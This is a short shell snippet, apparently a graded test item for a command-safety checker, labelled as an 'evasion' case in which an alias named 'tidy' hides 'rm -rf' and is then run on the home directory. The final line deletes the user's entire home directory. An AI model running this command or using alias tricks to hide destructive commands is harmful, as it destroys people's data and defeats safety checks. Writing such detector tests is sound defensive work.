# evasion: an alias hides rm -rf
# grade: hard; does: rm-rf
shopt -s expand_aliases
alias tidy='rm -rf'
tidy ~
